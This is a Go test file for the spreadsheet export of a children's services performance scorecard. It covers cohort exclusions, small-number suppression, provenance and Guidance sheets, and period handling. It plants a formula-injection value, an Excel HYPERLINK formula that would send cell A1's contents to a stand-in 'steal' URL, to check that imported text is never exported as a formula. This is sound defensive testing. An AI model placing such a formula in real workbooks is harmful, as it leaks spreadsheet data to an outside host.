package export

import (
	"context"
	"crypto/sha256"
	"encoding/hex"
	"errors"
	"fmt"
	"math"
	"path/filepath"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"scorecard/app"
	"scorecard/app/cohort"
	"scorecard/app/disclosure"
	"scorecard/assets"
	"scorecard/assets/synth"
)

// produced fixes the "date produced" so exports are reproducible.
var produced = time.Date(2026, time.November, 24, 9, 0, 0, 0, time.UTC)

// The hostile text planted in the demo history: a commentary that Excel
// would run as a formula, and an indicator name that would be a negative
// number's formula.
const (
	hostileComment = `=HYPERLINK("http://example.invalid/steal?d="&A1,"Click for details")`
	hostileName    = "-1 children"
)

// demoHistory is the embedded demo as the store would hold it after
// `scorecard demo`: the model's dataset with its previous-year outturns,
// one import with the demo workbook's SHA-256, and the hostile text.
func demoHistory(t testing.TB) (*app.History, *synth.Model) {
	t.Helper()
	m := synth.Demo()
	d := m.Dataset
	d.Indicators = slices.Clone(d.Indicators)
	d.Comments = slices.Clone(d.Comments)
	for _, o := range m.Outturns {
		d.Benchmarks = append(d.Benchmarks, app.Benchmark{Ref: o.Ref, Period: o.Period, Group: app.OutturnGroup, Value: o.Value, Status: o.Status})
	}
	d.Indicators[1].Name = hostileName
	d.Comments = append(d.Comments, app.Comment{Ref: d.Indicators[0].Ref, Area: app.Kent, Period: m.Latest(), Text: hostileComment})
	h := app.NewHistory()
	h.Apply(&d, "I0001")
	sum := sha256.Sum256(assets.Demo)
	h.Imports = []app.Import{{ID: "I0001", Source: "demo.xlsx", Kind: "demo", SHA256: hex.EncodeToString(sum[:]),
		Time: time.Date(2026, time.November, 20, 8, 30, 0, 0, time.UTC)}}
	return h, m
}

// export writes h with opt into a temporary folder and opens the result.
func export(t testing.TB, h *app.History, opt Options) (*excelize.File, Summary) {
	t.Helper()
	opt.Produced, opt.AppVersion = produced, "1.0-test"
	path := filepath.Join(t.TempDir(), "out.xlsx")
	sum, err := Write(context.Background(), path, h, opt)
	if err != nil {
		t.Fatalf("Write: %v", err)
	}
	f, err := excelize.OpenFile(path)
	if err != nil {
		t.Fatalf("open export: %v", err)
	}
	t.Cleanup(func() { f.Close() })
	auditDisclosure(t, f, h, opt)
	return f, sum
}

// sheetRow finds the row of the Scorecard whose column A holds ref.
func sheetRow(t testing.TB, f *excelize.File, sheet, ref string) int {
	t.Helper()
	rows, err := f.GetRows(sheet)
	if err != nil {
		t.Fatal(err)
	}
	for i, r := range rows {
		if len(r) > 0 && r[0] == ref {
			return i + 1
		}
	}
	t.Fatalf("%s: no row for %s", sheet, ref)
	return 0
}

// headerCol finds a column of the Scorecard's header row by its heading.
func headerCol(t testing.TB, f *excelize.File, name string) int {
	t.Helper()
	rows, _ := f.GetRows(ScorecardSheet)
	for i, h := range rows[headerRow-1] {
		if h == name {
			return i + 1
		}
	}
	t.Fatalf("no %q column in %q", name, rows[headerRow-1])
	return 0
}

// number reads a cell that must hold a number, not text.
func numberAt(t testing.TB, f *excelize.File, sheet, ref string) float64 {
	t.Helper()
	typ, err := f.GetCellType(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	raw, _ := f.GetCellValue(sheet, ref, excelize.Options{RawCellValue: true})
	if typ != excelize.CellTypeUnset && typ != excelize.CellTypeNumber {
		t.Fatalf("%s!%s holds %q as type %v, not a number", sheet, ref, raw, typ)
	}
	v, err := strconv.ParseFloat(raw, 64)
	if err != nil {
		t.Fatalf("%s!%s holds %q, not a number", sheet, ref, raw)
	}
	return v
}

// format returns a cell's number format and fill colour.
func format(t testing.TB, f *excelize.File, sheet, ref string) (string, string) {
	t.Helper()
	id, err := f.GetCellStyle(sheet, ref)
	if err != nil {
		t.Fatal(err)
	}
	st, err := f.GetStyle(id)
	if err != nil {
		t.Fatal(err)
	}
	numFmt, fill := "", ""
	if st.CustomNumFmt != nil {
		numFmt = *st.CustomNumFmt
	}
	if len(st.Fill.Color) > 0 {
		fill = strings.TrimPrefix(strings.ToUpper(st.Fill.Color[0]), "FF")
		if len(st.Fill.Color[0]) == 6 {
			fill = strings.ToUpper(st.Fill.Color[0])
		}
	}
	return numFmt, fill
}

func TestExclusionsTitleAndFigures(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	if a2, _ := f.GetCellValue(ScorecardSheet, "A2"); a2 != "Excluding unaccompanied asylum-seeking children (UASC)" {
		t.Errorf("A2 = %q", a2)
	}
	ex, _ := cohort.Exclude(h, []app.Cohort{app.UASC})
	monthCol := headerCol(t, f, m.Latest().Label())
	differ, cannot := 0, 0
	for _, ind := range h.Indicators() {
		k := app.SeriesKey{Ref: ind.Ref, Area: app.Kent}
		o, ok := ex.Observation(k, m.Latest())
		if !ok {
			continue
		}
		ref := cell(monthCol, sheetRow(t, f, ScorecardSheet, ind.Ref))
		if o.Status == app.CannotExclude {
			// Said once per row, with the reason, not in every month.
			cannot++
			row := sheetRow(t, f, ScorecardSheet, ind.Ref)
			// GetCellValue gives a merged range's text in each of its
			// cells; the sheet's own rows hold it once.
			rows, _ := f.GetRows(ScorecardSheet)
			said := 0
			for c := monthCol - 11; c <= monthCol; c++ {
				v := ""
				if r := rows[row-1]; c-1 < len(r) {
					v = r[c-1]
				}
				if strings.HasPrefix(v, "cannot exclude") {
					said++
					if !strings.Contains(v, o.Raw) {
						t.Errorf("%s %s = %q, want the reason %q", ind.Ref, cell(c, row), v, o.Raw)
					}
					if !hasComment(f, ScorecardSheet, cell(c, row), o.Raw) {
						t.Errorf("%s %s: no note giving the reason %q", ind.Ref, cell(c, row), o.Raw)
					}
				}
			}
			if said != 1 {
				t.Errorf("%s: the row says cannot exclude %d times, want once", ind.Ref, said)
			}
			continue
		}
		if o.Value == nil {
			continue
		}
		got := numberAt(t, f, ScorecardSheet, ref)
		if want := cellNumber(ind, *o.Value); math.Abs(got-want) > 1e-9 {
			t.Errorf("%s excluding UASC = %v, want %v", ind.Ref, got, want)
		}
		if all, _ := h.Observation(k, m.Latest()); all.Value != nil && *all.Value != *o.Value {
			differ++
		}
	}
	if differ == 0 {
		t.Error("no figure differs from all children's: exclusion was not applied")
	}
	if cannot != sum.CannotExclude && sum.CannotExclude < cannot {
		t.Errorf("summary counts %d cannot-exclude figures, the sheet has at least %d", sum.CannotExclude, cannot)
	}
	// The Data sheet labels the recomputed figures "Excluding UASC".
	rows, _ := f.GetRows(DataSheet)
	labels := map[string]int{}
	for _, r := range rows[2:] {
		labels[r[3]]++
	}
	for _, l := range []string{"All", "Excluding UASC", "UASC"} {
		if labels[l] == 0 {
			t.Errorf("Data sheet has no %q rows: %v", l, labels)
		}
	}
}

// hasComment reports whether a cell has a note containing text.
func hasComment(f *excelize.File, sheet, ref, text string) bool {
	cs, _ := f.GetComments(sheet)
	for _, c := range cs {
		if c.Cell != ref {
			continue
		}
		all := c.Text
		for _, p := range c.Paragraph {
			all += p.Text
		}
		if strings.Contains(all, text) {
			return true
		}
	}
	return false
}

func TestImportedTextIsNeverAFormula(t *testing.T) {
	h, _ := demoHistory(t)
	f, _ := export(t, h, Options{})
	found := map[string]bool{}
	for _, sheet := range f.GetSheetList() {
		rows, err := f.GetRows(sheet)
		if err != nil {
			t.Fatal(err)
		}
		for i, r := range rows {
			for j, v := range r {
				ref := cell(j+1, i+1)
				if formula, _ := f.GetCellFormula(sheet, ref); formula != "" {
					t.Errorf("%s!%s holds the formula %q", sheet, ref, formula)
				}
				if v == hostileComment || v == hostileName {
					found[v] = true
					if typ, _ := f.GetCellType(sheet, ref); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
						t.Errorf("%s!%s holds %q as type %v, not a string", sheet, ref, v, typ)
					}
				}
			}
		}
	}
	if !found[hostileComment] || !found[hostileName] {
		t.Errorf("the planted comment and name were not exported as text: %v", found)
	}
}

// contractPeriod matches a month or quarter as the contract writes it.
var contractPeriod = regexp.MustCompile(`^\d{4}-(\d\d|Q\d)$`)

func TestProvenanceAndGuidance(t *testing.T) {
	h, _ := demoHistory(t)
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	rows, _ := f.GetRows(ProvenanceSheet)
	var text strings.Builder
	for _, r := range rows {
		text.WriteString(strings.Join(r, "|") + "\n")
	}
	for _, want := range []string{h.Imports[0].SHA256, "demo.xlsx", "2026-11-20 08:30:00", "Scorecard 1.0-test",
		"Excluding unaccompanied asylum-seeking children (UASC)", "Produced|24 November 2026"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("Provenance does not say %q:\n%s", want, text.String())
		}
	}
	// The period is as people read it ("Oct-26"), not as --period takes it.
	for _, r := range rows {
		if len(r) > 1 && r[0] == "Period" && (r[1] == "" || contractPeriod.MatchString(r[1])) {
			t.Errorf("Provenance gives the period as %q", r[1])
		}
	}
	if props, err := f.GetDocProps(); err != nil || props.Category != app.ExportCategory || props.Subject != exclusionWords([]app.Cohort{app.UASC}) {
		t.Errorf("document properties %+v (%v): want Category %q and the exclusions as Subject", props, err, app.ExportCategory)
	}
	rows, _ = f.GetRows(GuidanceSheet)
	text.Reset()
	for _, r := range rows {
		text.WriteString(strings.Join(r, "|") + "\n")
	}
	for _, want := range []string{"Making Data Count", "GREEN when the figure meets the target", "R12M|rolling 12 months",
		"c|suppressed to protect confidentiality", "snapshot date"} {
		if !strings.Contains(text.String(), want) {
			t.Errorf("Guidance does not say %q", want)
		}
	}
}

func TestDataSheetIsTidy(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{})
	// With no threshold, only the source's own c (Dover's CIC09) and the
	// figure withheld to protect it are c (TestSourceWithheldNoThreshold).
	h, _ = disclosure.Suppress(h, 0)
	rows, _ := f.GetRows(DataSheet)
	if rows[0][0] != notPrinted {
		t.Errorf("Data A1 %q, want the notice %q", rows[0], notPrinted)
	}
	rows = rows[1:]
	if !slices.Equal(rows[0], DataHeader) {
		t.Fatalf("Data header %q, want %q", rows[0], DataHeader)
	}
	if sum.DataRows != len(rows)-1 {
		t.Errorf("summary says %d data rows, the sheet has %d", sum.DataRows, len(rows)-1)
	}
	standIns := 0
	for _, o := range m.Dataset.Observations {
		if o.StandIn {
			standIns++
		}
	}
	if standIns == 0 {
		t.Error("the demo has no previous-year outturn standing in for a month")
	}
	// A stand-in is a row too, marked as one: leaving it out lost it when
	// the export was imported again.
	if want := len(m.Dataset.Observations); sum.DataRows != want {
		t.Errorf("%d data rows, want every one of the demo's %d figures, %d of them standing in", sum.DataRows, want, standIns)
	}
	marked := 0
	for i, r := range rows[1:] {
		r = append(r, make([]string, 8-len(r))...)
		p, err := app.ParsePeriod(r[1])
		if err != nil {
			t.Fatalf("row %d: %v", i+2, err)
		}
		k := app.SeriesKey{Ref: r[0], Area: app.Area(r[2])}
		switch r[3] {
		case "All":
		case "UASC":
			k.Split = app.Only(app.UASC)
		case "Excluding UASC":
			k.Split = app.Excluding(app.UASC)
		default:
			t.Fatalf("row %d: cohort %q", i+2, r[3])
		}
		o, ok := h.Observation(k, p)
		if !ok {
			t.Fatalf("row %d: %q is not in the history", i+2, r)
		}
		if o.Value == nil {
			if r[6] != "" || r[7] != o.Status.String() {
				t.Errorf("row %d: %q, want status %q", i+2, r, o.Status)
			}
			continue
		}
		if v, err := strconv.ParseFloat(r[6], 64); err != nil || math.Abs(v-*o.Value) > 1e-9 {
			t.Errorf("row %d: value %q, want %v", i+2, r[6], *o.Value)
		}
		want := ""
		if o.StandIn {
			want = app.StandInMark
			marked++
		}
		if r[7] != want {
			t.Errorf("row %d: status %q, want %q", i+2, r[7], want)
		}
	}
	if marked != standIns {
		t.Errorf("%d rows marked %q, want the demo's %d stand-ins", marked, app.StandInMark, standIns)
	}
}

// TestSuppressedCountsTheFile (the export campaign's F5): the summary's
// figures suppressed are those the Data sheet withholds that the store
// does not, for an earlier period as for the latest, written whole or
// an indicator at a time. An export to April said 9 of a Data sheet
// withholding 2: it counted every month the store holds.
func TestSuppressedCountsTheFile(t *testing.T) {
	h, m := demoHistory(t)
	for _, p := range []app.Period{m.Latest(), m.Latest().Add(-6)} {
		for _, streamed := range []bool{false, true} {
			t.Run(fmt.Sprintf("%s, streamed %v", p, streamed), func(t *testing.T) {
				f, sum := written(t, h, Options{Produced: produced, AppVersion: "1.0-test", Suppress: 5, Period: p}, streamed)
				rows, err := f.GetRows(DataSheet)
				if err != nil {
					t.Fatal(err)
				}
				want := 0
				for _, r := range rows[2:] {
					r = append(r, make([]string, 8-len(r))...)
					if r[7] != app.Suppressed.String() {
						continue
					}
					k := app.SeriesKey{Ref: r[0], Area: app.Area(r[2])}
					period, err := app.ParsePeriod(r[1])
					if err != nil {
						t.Fatalf("Data sheet row %q: %v", r, err)
					}
					if r[3] != "All" {
						t.Fatalf("Data sheet row %q: the demo's figures are all children's", r)
					}
					if o, ok := h.Observation(k, period); !ok || o.Status != app.Suppressed {
						want++
					}
				}
				if want == 0 || sum.Suppressed != want {
					t.Errorf("summary says %d figures suppressed; the Data sheet withholds %d the store does not", sum.Suppressed, want)
				}
			})
		}
	}
}

// TestSuppressionIsConsistentAcrossSheets checks that every figure
// package disclosure withholds shows as c on every sheet that shows it:
// the scorecard and trend for Kent, the districts table, and the Data
// sheet, which also holds no value for it.
func TestSuppressionIsConsistentAcrossSheets(t *testing.T) {
	h, m := demoHistory(t)
	f, sum := export(t, h, Options{Suppress: 5})
	sup, n := disclosure.Suppress(h, 5)
	if n == 0 || sum.Suppressed < n {
		t.Fatalf("disclosure suppressed %d figures, the export says %d", n, sum.Suppressed)
	}
	data, _ := f.GetRows(DataSheet)
	dataRow := map[string][]string{}
	for _, r := range data[2:] {
		r = append(r, make([]string, 8-len(r))...)
		dataRow[strings.Join(r[:4], "|")] = r
	}
	districts, _ := f.GetRows(DistrictsSheet)
	var areaCol map[app.Area]int
	for _, r := range districts {
		if len(r) > 3 && r[0] == "Ref" {
			areaCol = map[app.Area]int{}
			for i, a := range r {
				areaCol[app.Area(a)] = i + 1
			}
			break
		}
	}
	latest := m.Latest()
	monthCol := headerCol(t, f, latest.Label())
	checked := map[string]int{}
	for _, k := range sup.Keys() {
		for _, o := range sup.Series(k) {
			was, _ := h.Observation(k, o.Period)
			if o.Status != app.Suppressed || was.Status == app.Suppressed {
				continue
			}
			key := strings.Join([]string{o.Ref, o.Period.String(), string(o.Area), cohortLabel(k.Split)}, "|")
			if r := dataRow[key]; r == nil || r[7] != "c" || r[4]+r[5]+r[6] != "" {
				t.Errorf("Data sheet row for %s: %q, want status c and no figures", key, r)
			}
			checked["data"]++
			if o.Period != latest || k.Split != app.All {
				continue
			}
			r := sheetRow(t, f, DistrictsSheet, o.Ref)
			if got, _ := f.GetCellValue(DistrictsSheet, cell(areaCol[o.Area], r)); got != "c" {
				t.Errorf("Districts %s %s: %q, want c", o.Ref, o.Area, got)
			}
			checked["districts"]++
			if o.Area != app.Kent {
				continue
			}
			for _, sheet := range []string{ScorecardSheet, TrendSheet} {
				col := monthCol
				if sheet == TrendSheet {
					col = 4 + trendMonths
				}
				if got, _ := f.GetCellValue(sheet, cell(col, sheetRow(t, f, sheet, o.Ref))); got != "c" {
					t.Errorf("%s %s: %q, want c", sheet, o.Ref, got)
				}
			}
			checked["kent"]++
		}
	}
	if checked["data"] == 0 || checked["districts"] == 0 {
		t.Errorf("checked %v: the demo's small district figures should be suppressed", checked)
	}
	t.Logf("checked %v", checked)
}

// TestBreakdownsForAllAndExcluding checks the demographic breakdowns:
// the period's latest tables for all children and without UASC, with
// small counts withheld when suppressing.
func TestBreakdownsForAllAndExcluding(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest()
	excl := app.Excluding(app.UASC)
	bd := func(split app.Split, period app.Period, cat string, n, total float64) app.Breakdown {
		return app.Breakdown{Measure: "Children in care", Period: period, Area: app.Kent, Split: split,
			Dimension: "gender", Category: cat, Count: n, Total: total}
	}
	h.Apply(&app.Dataset{Breakdowns: []app.Breakdown{
		bd(app.All, p.Add(-1), "Male", 1000, 1800), // an older table: not shown
		bd(app.All, p, "Male", 1131, 1896), bd(app.All, p, "Female", 762, 1896), bd(app.All, p, "Other", 3, 1896),
		bd(excl, p, "Male", 712, 1468), bd(excl, p, "Female", 753, 1468), bd(excl, p, "Other", 3, 1468),
	}}, "I0003")
	for _, tc := range []struct {
		suppress int
		want     [][]string // Children, Category, Count, Total
	}{
		{0, [][]string{
			{"All children", "Male", "1,131", "1,896"}, {"All children", "Female", "762", "1,896"}, {"All children", "Other", "3", "1,896"},
			{"Excluding UASC", "Male", "712", "1,468"}, {"Excluding UASC", "Female", "753", "1,468"}, {"Excluding UASC", "Other", "3", "1,468"},
		}},
		// The 3 is withheld, and so is the next smallest category of its
		// table, or it could be worked out from the total.
		{5, [][]string{
			{"All children", "Male", "1,131", "1,896"}, {"All children", "Female", "c", "1,896"}, {"All children", "Other", "c", "1,896"},
			{"Excluding UASC", "Male", "c", "1,468"}, {"Excluding UASC", "Female", "753", "1,468"}, {"Excluding UASC", "Other", "c", "1,468"},
		}},
	} {
		f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}, Suppress: tc.suppress})
		rows, _ := f.GetRows(BreakdownsSheet)
		var got [][]string
		for _, r := range rows {
			if len(r) >= 8 && r[0] == "Children in care" {
				if r[1] != p.Label() {
					t.Errorf("suppress %d: a table for %s, want only %s's", tc.suppress, r[1], p.Label())
				}
				got = append(got, []string{r[3], r[5], r[6], r[7]})
			}
		}
		if !slices.EqualFunc(got, tc.want, slices.Equal) {
			t.Errorf("suppress %d: breakdowns\n%q\nwant\n%q", tc.suppress, got, tc.want)
		}
	}
}

// TestEarlierPeriodAndDistrictArea exports a district's scorecard for an
// earlier month: the title, last month column and figures are that
// month's and area's, and the Data sheet holds nothing later.
func TestEarlierPeriodAndDistrictArea(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest().Add(-3)
	f, sum := export(t, h, Options{Period: p, Area: "Ashford", Months: 6})
	if title, _ := f.GetCellValue(ScorecardSheet, "A1"); title != "Ashford performance scorecard: "+periodName(p) {
		t.Errorf("title %q", title)
	}
	rows, _ := f.GetRows(ScorecardSheet)
	head := rows[headerRow-1]
	if i := slices.Index(head, p.Label()); i < 0 || slices.Index(head, p.Add(-5).Label()) != i-5 || slices.Contains(head, p.Add(1).Label()) {
		t.Errorf("header %q: want the 6 months to %s", head, p.Label())
	}
	ind := h.Indicators()[2]
	o, _ := h.Observation(app.SeriesKey{Ref: ind.Ref, Area: "Ashford"}, p)
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, p.Label()), sheetRow(t, f, ScorecardSheet, ind.Ref))); math.Abs(got-cellNumber(ind, *o.Value)) > 1e-9 {
		t.Errorf("%s Ashford %s = %v, want %v", ind.Ref, p, got, cellNumber(ind, *o.Value))
	}
	data, _ := f.GetRows(DataSheet)
	for _, r := range data[2:] {
		if q, _ := app.ParsePeriod(r[1]); q.Compare(p) > 0 {
			t.Fatalf("Data sheet holds %q, after the export's month %s", r, p)
		}
	}
	if sum.DataRows >= len(h.Keys())*24 {
		t.Errorf("%d data rows: the months after %s were not left out", sum.DataRows, p)
	}
}

// TestProgressReachesItsTotal checks the progress callback counts up to
// exactly its total, with and without exclusions.
func TestProgressReachesItsTotal(t *testing.T) {
	h, _ := demoHistory(t)
	for _, cs := range [][]app.Cohort{nil, {app.UASC}} {
		last, total, calls := 0, 0, 0
		_, err := Write(context.Background(), filepath.Join(t.TempDir(), "p.xlsx"), h, Options{Exclude: cs, Progress: func(done, n int) {
			if done != last+1 || (total != 0 && n != total) {
				t.Errorf("progress %d of %d after %d of %d", done, n, last, total)
			}
			last, total = done, n
			calls++
		}})
		if err != nil {
			t.Fatal(err)
		}
		if calls == 0 || last != total {
			t.Errorf("excluding %v: progress ended at %d of %d", cs, last, total)
		}
	}
}

// TestSmallHistories exports hand-built histories at the edges: none at
// all, a single month, and a quarterly indicator shown in the month its
// quarter ends.
func TestSmallHistories(t *testing.T) {
	if _, err := Write(context.Background(), filepath.Join(t.TempDir(), "x.xlsx"), app.NewHistory(), Options{}); !errors.Is(err, ErrNoData) {
		t.Errorf("empty history: %v, want ErrNoData", err)
	}
	h := app.NewHistory()
	oct := app.MonthOf(2026, time.October)
	h.Apply(&app.Dataset{
		Indicators: []app.Indicator{
			{Ref: "M1", Name: "Monthly count", Unit: app.Number, Section: "One"},
			{Ref: "Q1", Name: "Quarterly percentage", Unit: app.Percent, Decimals: 1, Polarity: app.HigherBetter, Section: "One"},
			{Ref: "Y1", Name: "Yearly percentage", Unit: app.Percent, Decimals: 1, Polarity: app.HigherBetter, Section: "One"},
		},
		Observations: []app.Observation{
			{Ref: "M1", Area: app.Kent, Period: oct, Value: app.Float(12)},
			{Ref: "Q1", Area: app.Kent, Period: app.Period{Kind: app.Quarter, Year: 2026, N: 2}, Value: app.Float(61.2)},
			{Ref: "Q1", Area: app.Kent, Period: app.Period{Kind: app.Quarter, Year: 2026, N: 3}, Value: app.Float(63.7)},
			{Ref: "Y1", Area: app.Kent, Period: app.Period{Kind: app.AcademicYear, Year: 2025}, Value: app.Float(39.5)},
		},
		Targets: []app.Target{{Ref: "Q1", Year: app.Period{Kind: app.FinancialYear, Year: 2026}, Target: app.Float(65), Floor: app.Float(60)}},
	}, "I0001")
	f, sum := export(t, h, Options{})
	if sum.Indicators != 3 || sum.Period != oct {
		t.Fatalf("summary %+v", sum)
	}
	r := sheetRow(t, f, ScorecardSheet, "Q1")
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, "Sep-26"), r)); math.Abs(got-0.637) > 1e-12 {
		t.Errorf("Q1 in Sep-26, the month its quarter ends: %v, want 0.637", got)
	}
	// In a month no quarter ends it has no figure: the cell says it is
	// quarterly, its note the latest quarter's, as the pack says it.
	if got, _ := f.GetCellValue(ScorecardSheet, cell(headerCol(t, f, "Oct-26"), r)); got != "quarterly" {
		t.Errorf("Q1 in Oct-26: %q, want quarterly", got)
	}
	// A quarter's or a year's figure in a month's column says whose it is.
	for _, c := range []struct{ ref, month, note string }{
		{"Q1", "Sep-26", "The figure for Jul-Sep 2026 (quarter), shown in the month it ends."},
		{"Y1", "Aug-26", "The figure for 2025/26 AY (academic year), shown in the month it ends."},
		{"Q1", "Oct-26", "Q1 Quarterly percentage: quarterly: Jul-Sep 2026 = 63.7% AMBER; next due Dec-26, so October 2026 has no figure, rating or direction of it."},
		{"Y1", "Oct-26", "Y1 Yearly percentage: annual: 2025/26 AY = 39.5%; next due Aug-27, so October 2026 has no figure, rating or direction of it."},
	} {
		if at := cell(headerCol(t, f, c.month), sheetRow(t, f, ScorecardSheet, c.ref)); !hasComment(f, ScorecardSheet, at, c.note) {
			t.Errorf("%s in %s (%s) has no note %q", c.ref, c.month, at, c.note)
		}
	}
	if at := cell(headerCol(t, f, "Oct-26"), sheetRow(t, f, ScorecardSheet, "M1")); hasComment(f, ScorecardSheet, at, "shown in the month it ends") {
		t.Errorf("M1's own month %s is noted as another period's", at)
	}
	if got := numberAt(t, f, ScorecardSheet, cell(headerCol(t, f, "Oct-26"), sheetRow(t, f, ScorecardSheet, "M1"))); got != 12 {
		t.Errorf("M1 in Oct-26: %v, want 12", got)
	}
	for _, p := range []app.Period{oct.Add(1), app.MonthOf(1999, time.January)} {
		if _, err := Write(context.Background(), filepath.Join(t.TempDir(), "x.xlsx"), h, Options{Period: p}); !errors.Is(err, ErrNoData) {
			t.Errorf("a month outside the history (%s): %v, want ErrNoData", p, err)
		}
	}
}

// TestSuppressedFiguresLoseComponents checks the Data sheet never shows
// the numerator or denominator of a suppressed figure, whether the
// source marked it "c" or the export's threshold did: 120 of 124 reveals
// the 4 children not meeting the measure.
//
// The file revises Oct-26's CIC03 of Ashford (now the source's c, 5 of
// 10), Canterbury (120 of 124) and so Kent (800 of 1802); the demo's
// release before it showed all of Oct-26, Ashford 60 of 115 and
// Canterbury 58 of 113 among them. The ten other columns stand, 675 of
// 1668 between them, shown then. So even with no threshold Canterbury
// is withheld beside the source's c: shown, it would give Ashford as
// 800 - 675 - 120 = 5 of 1802 - 1668 - 124 = 10, and no figure of the
// sum but Canterbury is new to a reader of last month's pack (the
// Sevenoaks 21 of 55 withheld before, in one release's view, was in it).
func TestSuppressedFiguresLoseComponents(t *testing.T) {
	h, m := demoHistory(t)
	p := m.Latest()
	h.Apply(&app.Dataset{Observations: []app.Observation{
		{Ref: "CIC03", Area: app.Districts[0], Period: p, Status: app.Suppressed, Raw: "c", Numerator: app.Float(5), Denominator: app.Float(10)},
		{Ref: "CIC03", Area: app.Districts[1], Period: p, Value: app.Float(96.77), Numerator: app.Float(120), Denominator: app.Float(124)},
		{Ref: "CIC03", Area: app.Kent, Period: p, Value: app.Float(44.40), Numerator: app.Float(800), Denominator: app.Float(1802)},
	}}, "I0003")
	tests := []struct {
		name     string
		suppress int
		want     map[app.Area]string // Data sheet's value column
	}{
		{"no threshold", 0, map[app.Area]string{app.Districts[0]: "c", app.Districts[1]: "c"}},
		{"threshold 5", 5, map[app.Area]string{app.Districts[0]: "c", app.Districts[1]: "c"}},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f, _ := export(t, h, Options{Suppress: tt.suppress})
			rows, _ := f.GetRows(DataSheet, excelize.Options{RawCellValue: true})
			found := 0
			for _, r := range rows[2:] {
				r = append(r, make([]string, len(DataHeader))...)
				area := app.Area(r[2])
				want, ok := tt.want[area]
				if r[0] != "CIC03" || r[1] != p.String() || r[3] != "All" || !ok {
					continue
				}
				found++
				got := r[6]
				if r[7] != "" {
					got = r[7]
				}
				if got != want {
					t.Errorf("%s: %q, want %q", area, got, want)
				}
				if got == "c" && (r[4] != "" || r[5] != "") {
					t.Errorf("%s: suppressed, but shows numerator %q and denominator %q", area, r[4], r[5])
				}
			}
			if found != len(tt.want) {
				t.Errorf("found %d of the %d rows", found, len(tt.want))
			}
		})
	}
}

// TestGuidanceRuleOfWhatCannotExclude: the Guidance sheet's "Exclusion
// rule used" names the rule an indicator's figures excluding UASC were
// worked by, and says of one none of whose figures could exclude UASC (a
// median) that it excludes nobody, not "as the source counted them"
// (QA10).
func TestGuidanceRuleOfWhatCannotExclude(t *testing.T) {
	h := app.NewHistory()
	oct := app.MonthOf(2026, time.October)
	uasc := app.Only(app.UASC)
	h.Apply(&app.Dataset{
		Indicators: []app.Indicator{
			{Ref: "C1", Name: "Children in care", Unit: app.Number, Measure: app.Count},
			{Ref: "M1", Name: "Median days to a plan", Unit: app.Days, Measure: app.Median},
		},
		Observations: []app.Observation{
			{Ref: "C1", Area: app.Kent, Period: oct, Value: app.Float(100)},
			{Ref: "C1", Area: app.Kent, Split: uasc, Period: oct, Value: app.Float(8)},
			{Ref: "M1", Area: app.Kent, Period: oct, Value: app.Float(40)},
			{Ref: "M1", Area: app.Kent, Split: uasc, Period: oct, Value: app.Float(30)},
		},
	}, "I0001")
	f, _ := export(t, h, Options{Exclude: []app.Cohort{app.UASC}})
	for ref, want := range map[string]string{
		"C1": "excluding UASC as the source counted them",
		"M1": "none: its figures cannot exclude the cohort",
	} {
		got, _ := f.GetCellValue(GuidanceSheet, cell(8, sheetRow(t, f, GuidanceSheet, ref)))
		if !strings.HasPrefix(got, want) {
			t.Errorf("%s's exclusion rule %q, want it to begin %q", ref, got, want)
		}
	}
}
